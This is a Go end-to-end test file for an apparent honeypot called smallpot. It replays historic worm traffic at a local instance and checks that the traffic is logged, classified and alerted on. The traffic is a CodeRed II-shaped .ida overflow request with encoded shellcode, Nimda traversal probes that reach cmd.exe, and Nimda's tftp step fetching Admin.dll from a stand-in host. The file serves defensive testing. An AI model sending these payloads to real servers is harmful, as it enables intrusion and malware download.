package main

import (
	"bufio"
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/hex"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"math/rand/v2"
	"net"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"syscall"
	"testing"
	"time"

	"github.com/smallpot/smallpot/internal/event"
)

// buildBinary builds smallpot once per test binary.
var (
	buildOnce sync.Once
	binPath   string
	buildErr  error
)

func smallpotBinary(t *testing.T) string {
	t.Helper()
	buildOnce.Do(func() {
		dir, err := os.MkdirTemp("", "smallpot-bin-")
		if err != nil {
			buildErr = err
			return
		}
		// World-readable so a server that drops root can still be run.
		_ = os.Chmod(dir, 0o755)
		binPath = filepath.Join(dir, "smallpot")
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
		defer cancel()
		cmd := exec.CommandContext(ctx, "go", "build", "-o", binPath, ".")
		cmd.WaitDelay = 5 * time.Second // a killed go's compilers must not hold its pipes open
		out, err := cmd.CombinedOutput()
		if err != nil {
			buildErr = fmt.Errorf("go build: %v\n%s", err, out)
		}
	})
	if buildErr != nil {
		t.Fatal(buildErr)
	}
	return binPath
}

// server is a running smallpot process.
type server struct {
	cmd    *exec.Cmd
	data   string
	offset int
	stderr *bytes.Buffer
	table  string
}

// startServer runs `smallpot run` on 127.0.0.1 with a random port offset,
// retrying another offset if a port is taken.
func startServer(t *testing.T, configYAML string) *server {
	t.Helper()
	bin := smallpotBinary(t)
	dir := t.TempDir()
	cfgPath := filepath.Join(dir, "smallpot.yaml")
	if err := os.WriteFile(cfgPath, []byte(configYAML), 0o644); err != nil {
		t.Fatal(err)
	}
	data := filepath.Join(dir, "data")
	for try := 0; try < 5; try++ {
		// Every default port plus the offset stays below 65536.
		offset := 10000 + rand.IntN(10000)
		// stop ends the server with the test; the timeout, if a test
		// hangs.
		ctx, cancel := context.WithTimeout(context.Background(), 10*time.Minute)
		t.Cleanup(cancel) // after stop: cleanups run last first
		cmd := exec.CommandContext(ctx, bin, "run", "-config", cfgPath, "-data", data, "-bind", "127.0.0.1",
			"-port-offset", fmt.Sprint(offset))
		cmd.WaitDelay = 5 * time.Second // a killed server's children must not hold its pipes open
		stdout, err := cmd.StdoutPipe()
		if err != nil {
			t.Fatal(err)
		}
		var stderr bytes.Buffer
		cmd.Stderr = &stderr
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		// The table ends with an empty line after the listeners.
		lines := make(chan string)
		go func() {
			sc := bufio.NewScanner(stdout)
			var b strings.Builder
			sawHeader := false
			for sc.Scan() {
				b.WriteString(sc.Text() + "\n")
				if strings.HasPrefix(sc.Text(), "SERVICE") {
					sawHeader = true
				} else if sawHeader && sc.Text() == "" {
					lines <- b.String()
					_, _ = io.Copy(io.Discard, stdout)
					return
				}
			}
			close(lines)
		}()
		select {
		case table, ok := <-lines:
			if ok {
				s := &server{cmd: cmd, data: data, offset: offset, stderr: &stderr, table: table}
				t.Cleanup(func() { s.stop(t) })
				return s
			}
			_ = cmd.Wait()
			if strings.Contains(stderr.String(), "address already in use") {
				continue
			}
			t.Fatalf("smallpot run exited before serving:\n%s", stderr.String())
		case <-time.After(30 * time.Second):
			_ = cmd.Process.Kill()
			t.Fatalf("smallpot run did not print its table within 30s:\n%s", stderr.String())
		}
	}
	t.Fatal("no free port offset found")
	return nil
}

func (s *server) stop(t *testing.T) {
	t.Helper()
	if s.cmd.ProcessState != nil {
		return
	}
	_ = s.cmd.Process.Signal(syscall.SIGTERM)
	done := make(chan error, 1)
	go func() { done <- s.cmd.Wait() }()
	select {
	case err := <-done:
		if err != nil {
			t.Errorf("smallpot run did not exit cleanly on SIGTERM: %v\n%s", err, s.stderr.String())
		}
	case <-time.After(20 * time.Second):
		_ = s.cmd.Process.Kill()
		t.Errorf("smallpot run did not stop within 20s of SIGTERM\n%s", s.stderr.String())
	}
}

func (s *server) addr(port int) string { return fmt.Sprintf("127.0.0.1:%d", port+s.offset) }

// send writes raw bytes on a new connection, half-closes, and returns what
// came back before the server closed (or 5s passed).
func send(t *testing.T, addr string, raw []byte) []byte {
	t.Helper()
	c, err := net.DialTimeout("tcp", addr, 5*time.Second)
	if err != nil {
		t.Fatal(err)
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(5 * time.Second))
	if _, err := c.Write(raw); err != nil {
		t.Fatal(err)
	}
	_ = c.(*net.TCPConn).CloseWrite()
	out, _ := io.ReadAll(c)
	return out
}

func smallpotCLI(t *testing.T, args ...string) []byte {
	t.Helper()
	bin := smallpotBinary(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	cmd := exec.CommandContext(ctx, bin, args...)
	cmd.WaitDelay = 5 * time.Second // a killed client's children must not hold its pipes open
	out, err := cmd.Output()
	if err != nil {
		var ee *exec.ExitError
		if errors.As(err, &ee) {
			t.Fatalf("smallpot %s: %v\n%s", strings.Join(args, " "), err, ee.Stderr)
		}
		t.Fatalf("smallpot %s: %v", strings.Join(args, " "), err)
	}
	return out
}

func jsonLines[T any](t *testing.T, b []byte) []T {
	t.Helper()
	var out []T
	for _, line := range bytes.Split(bytes.TrimSpace(b), []byte("\n")) {
		if len(line) == 0 {
			continue
		}
		var v T
		if err := json.Unmarshal(line, &v); err != nil {
			t.Fatalf("bad JSON line %q: %v", line, err)
		}
		out = append(out, v)
	}
	return out
}

// e2eConfig runs the http service alone, on port 80 only (plus the offset).
func e2eConfig() string {
	return strings.Replace(onlyServices("http"), "  http:\n    enabled: true\n", "  http:\n    enabled: true\n    ports: [80]\n", 1)
}

// codeRedII is shaped like the CodeRed II request: an over-long .ida
// query of filler and %u-encoded shellcode, then a body carrying the
// worm's code (here a stand-in of the same shape).
func codeRedII() []byte {
	body := bytes.Repeat([]byte{0x90}, 1024)
	body = append(body, []byte("\x8b\xec\x81\xec\x18\x02\x00\x00CodeRedII")...)
	req := "GET /default.ida?" + strings.Repeat("X", 224) +
		"%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a HTTP/1.0\r\n" +
		"Content-type: text/xml\r\nContent-length: " + fmt.Sprint(len(body)) + "\r\n\r\n"
	return append([]byte(req), body...)
}

var nimdaProbes = []string{
	"/scripts/root.exe?/c+dir",
	"/MSADC/root.exe?/c+dir",
	"/c/winnt/system32/cmd.exe?/c+dir",
	"/d/winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%255c../winnt/system32/cmd.exe?/c+dir",
	"/_vti_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
	"/_mem_bin/..%255c../..%255c../..%255c../winnt/system32/cmd.exe?/c+dir",
	"/msadc/..%255c../..%255c../..%255c/..%c1%1c../..%c1%1c../..%c1%1c../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%c1%1c../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%c0%2f../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%c0%af../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%c1%9c../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%%35%63../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%%35c../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%25%35%63../winnt/system32/cmd.exe?/c+dir",
	"/scripts/..%252f../winnt/system32/cmd.exe?/c+dir",
}

// nimdaTFTP is the step Nimda takes once a probe answers: fetch its
// Admin.dll from the attacking host over TFTP.
const nimdaTFTP = "/scripts/..%255c../winnt/system32/cmd.exe?/c+tftp%20-i%20198.51.100.7%20GET%20Admin.dll%20c:\\Admin.dll"

func TestEndToEndCodeRedAndNimda(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end test builds and runs the binary")
	}
	s := startServer(t, e2eConfig())
	if !strings.Contains(s.table, "http") || !strings.Contains(s.table, fmt.Sprint(80+s.offset)) {
		t.Fatalf("start-up table does not list http on port %d:\n%s", 80+s.offset, s.table)
	}
	addr := s.addr(80)
	if os.Geteuid() == 0 {
		// Started as root, it must have given root up before serving.
		status, err := os.ReadFile(fmt.Sprintf("/proc/%d/status", s.cmd.Process.Pid))
		if err != nil {
			t.Fatal(err)
		}
		for _, line := range strings.Split(string(status), "\n") {
			if strings.HasPrefix(line, "Uid:") && strings.Fields(line)[2] == "0" {
				t.Errorf("smallpot still runs as root after binding: %s", line)
			}
		}
	}

	cr := codeRedII()
	send(t, addr, cr)

	for _, p := range nimdaProbes {
		out := send(t, addr, []byte("GET "+p+" HTTP/1.0\r\nHost: www\r\nConnnection: close\r\n\r\n"))
		// CodeRed II's /d virtual root maps D:, where no winnt lives.
		if !strings.HasPrefix(p, "/d/") && !bytes.Contains(out, []byte("Directory of")) {
			t.Errorf("Nimda probe %s: no dir listing in the answer:\n%s", p, out)
		}
	}
	out := send(t, addr, []byte("GET "+nimdaTFTP+" HTTP/1.0\r\nHost: www\r\n\r\n"))
	if len(out) == 0 {
		t.Errorf("Nimda tftp step: no answer")
	}

	// Stop: shutdown must flush everything to disk.
	s.stop(t)

	evs := jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json", "-service", "http", "-kind", "request"))
	if len(evs) != 1+len(nimdaProbes)+1 {
		t.Fatalf("got %d request events, want %d", len(evs), 1+len(nimdaProbes)+1)
	}
	sum := sha256.Sum256(cr)
	crSHA := hex.EncodeToString(sum[:])
	first := evs[0].Detail.(*event.Request)
	if first.Sample != crSHA {
		t.Errorf("CodeRed II request event: sample %q, want sha256 of the request bytes %s", first.Sample, crSHA)
	}
	if !strings.HasPrefix(first.URI, "/default.ida?XXXX") {
		t.Errorf("CodeRed II request event: uri %q", first.URI)
	}
	for i, p := range nimdaProbes {
		if got := evs[1+i].Detail.(*event.Request).URI; got != p {
			t.Errorf("Nimda probe %d: uri %q, want %q", i, got, p)
		}
	}

	// The tftp step is a command and a download intent.
	cmds := jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json", "-kind", "command"))
	foundTFTP := false
	for _, e := range cmds {
		if strings.Contains(e.Detail.(*event.Command).Line, "tftp -i 198.51.100.7 GET Admin.dll") {
			foundTFTP = true
		}
	}
	if !foundTFTP {
		t.Errorf("no command event for Nimda's tftp step among %d commands", len(cmds))
	}
	dls := jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json", "-kind", "download"))
	if len(dls) != 1 || dls[0].Detail.(*event.Download).URL != "tftp://198.51.100.7/Admin.dll" {
		t.Errorf("download intents: %+v", dls)
	}

	// The sample store holds exactly the request bytes, named by hash.
	type sampleRow struct {
		SHA256 string `json:"sha256"`
		Size   int64  `json:"size"`
		Count  int64  `json:"count"`
	}
	rows := jsonLines[sampleRow](t, smallpotCLI(t, "samples", "ls", "-data", s.data, "-json"))
	found := false
	for _, r := range rows {
		if r.SHA256 == crSHA {
			found = true
			if r.Size != int64(len(cr)) || r.Count != 1 {
				t.Errorf("CodeRed II sample row %+v, want size %d count 1", r, len(cr))
			}
		}
	}
	if !found {
		t.Errorf("samples ls has no row for the CodeRed II request %s: %+v", crSHA, rows)
	}
	onDisk, err := os.ReadFile(filepath.Join(s.data, "samples", crSHA))
	if err != nil {
		t.Fatal(err)
	}
	if !bytes.Equal(onDisk, cr) {
		t.Errorf("sample file differs from the request bytes (%d vs %d bytes)", len(onDisk), len(cr))
	}
	show := string(smallpotCLI(t, "samples", "show", "-data", s.data, crSHA))
	if !strings.Contains(show, crSHA) || !strings.Contains(show, "http") {
		t.Errorf("samples show:\n%s", show)
	}

	// events.jsonl holds the same events as the database, line for line.
	jl, err := os.ReadFile(filepath.Join(s.data, "events.jsonl"))
	if err != nil {
		t.Fatal(err)
	}
	all := jsonLines[event.Event](t, jl)
	dbAll := jsonLines[event.Event](t, smallpotCLI(t, "events", "-data", s.data, "-json"))
	if len(all) != len(dbAll) {
		t.Errorf("events.jsonl has %d events, the database %d", len(all), len(dbAll))
	}
	ids := map[string]bool{}
	for _, e := range all {
		ids[e.ID] = true
	}
	for _, e := range evs {
		if !ids[e.ID] {
			t.Errorf("request event %s missing from events.jsonl", e.ID)
		}
	}
	// Every connection has its connect and close.
	var connects, closes int
	for _, e := range all {
		switch e.Kind {
		case event.KindConnect:
			connects++
		case event.KindClose:
			closes++
		}
	}
	if connects != 2+len(nimdaProbes) || closes != connects {
		t.Errorf("connect/close events: %d/%d, want %d each", connects, closes, 2+len(nimdaProbes))
	}
}

func TestEndToEndClassifiesCodeRedAndNimda(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end test builds and runs the binary")
	}
	s := startServer(t, e2eConfig())
	addr := s.addr(80)
	send(t, addr, codeRedII())
	codeRedI := "GET /default.ida?" + strings.Repeat("N", 224) +
		"%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u6858%ucbd3%u7801%u9090%u9090%u8190%u00c3%u0003%u8b00%u531b%u53ff%u0078%u0000%u00=a HTTP/1.0\r\nContent-type: text/xml\r\nContent-length: 3379\r\n\r\n" +
		strings.Repeat("\x90", 3379)
	send(t, addr, []byte(codeRedI))
	send(t, addr, []byte("GET /scripts/..%255c../winnt/system32/cmd.exe?/c+dir HTTP/1.0\r\nHost: www\r\n\r\n"))
	send(t, addr, []byte("GET "+nimdaTFTP+" HTTP/1.0\r\nHost: www\r\n\r\n"))
	dets := stoppedEvents(t, s, event.KindDetection)
	families := map[string]bool{}
	for _, e := range dets {
		d := e.Detail.(*event.Detection)
		families[d.Family+"/"+d.Variant] = true
		families[d.Family] = true
	}
	for _, want := range []string{"CodeRed", "Nimda", "CodeRed/CodeRed I", "CodeRed/CodeRed II (CodeRed.C)"} {
		if !families[want] {
			t.Errorf("no detection of family/variant %s; got %v", want, families)
		}
	}
	text := string(smallpotCLI(t, "events", "-data", s.data, "-kind", "detection"))
	if !strings.Contains(text, "CodeRed") {
		t.Errorf("events -kind detection text output lacks CodeRed:\n%s", text)
	}
}

func TestEndToEndNewCodeRedVariantAlertsWebhook(t *testing.T) {
	if testing.Short() {
		t.Skip("end-to-end test builds and runs the binary")
	}
	type hit struct {
		at   time.Time
		body string
	}
	hits := make(chan hit, 64)
	hook := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		b, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		hits <- hit{time.Now(), string(b)}
	}))
	defer hook.Close()
	cfg := e2eConfig() + "notify:\n  webhooks:\n    - url: " + hook.URL + "\n"
	s := startServer(t, cfg)

	// The CodeRed II request with a changed byte string in its body.
	req := codeRedII()
	variant := bytes.Replace(req, []byte("CodeRedII"), []byte("CodeRedIX"), 1)
	variant = bytes.Replace(variant, bytes.Repeat([]byte{0x90}, 16), bytes.Repeat([]byte{0x41}, 16), 1)
	sent := time.Now()
	send(t, s.addr(80), variant)

	deadline := time.After(10 * time.Second)
	for {
		select {
		case h := <-hits:
			if !strings.Contains(h.body, "new variant of CodeRed II") {
				continue
			}
			if d := h.at.Sub(sent); d > time.Second {
				t.Errorf("new-variant alert reached the webhook %v after the capture; want within 1s", d)
			}
			alerts := stoppedEvents(t, s, event.KindAlert)
			found := false
			for _, e := range alerts {
				a := e.Detail.(*event.Alert)
				if a.Type == "new_variant" && a.Family == "CodeRed" && len(a.Relatives) > 0 {
					found = true
				}
			}
			if !found {
				t.Errorf("no stored new_variant alert of family CodeRed with relatives among %d alerts", len(alerts))
			}
			// samples ls shows the variant's family, fuzzy hashes and
			// nearest relative.
			type row struct {
				SHA256  string          `json:"sha256"`
				Family  string          `json:"family"`
				SSDeep  string          `json:"ssdeep"`
				Novelty string          `json:"novelty"`
				Nearest *event.Relative `json:"nearest"`
			}
			vsha := sha256Hex(variant)
			ok := false
			for _, r := range jsonLines[row](t, smallpotCLI(t, "samples", "ls", "-data", s.data, "-json")) {
				if r.SHA256 == vsha {
					ok = r.Family == "CodeRed" && r.SSDeep != "" && r.Novelty == "new_variant" && r.Nearest != nil
					if !ok {
						t.Errorf("samples ls row for the variant: %+v", r)
					}
				}
			}
			if !ok {
				t.Errorf("samples ls lacks a complete row for the variant %s", vsha)
			}
			if show := string(smallpotCLI(t, "samples", "show", "-data", s.data, vsha)); !strings.Contains(show, "family  CodeRed") || !strings.Contains(show, "nearest ") {
				t.Errorf("samples show:\n%s", show)
			}
			exp := t.TempDir()
			smallpotCLI(t, "samples", "export", "-data", s.data, "-out", exp, "-zip-password", "infected", vsha)
			if _, err := os.Stat(filepath.Join(exp, vsha+".zip")); err != nil {
				t.Errorf("samples export: %v", err)
			}
			if meta, err := os.ReadFile(filepath.Join(exp, vsha+".json")); err != nil || !strings.Contains(string(meta), `"family": "CodeRed"`) {
				t.Errorf("samples export metadata: %v\n%s", err, meta)
			}
			return
		case <-deadline:
			t.Fatal("no new-variant alert reached the webhook within 10s")
		}
	}
}
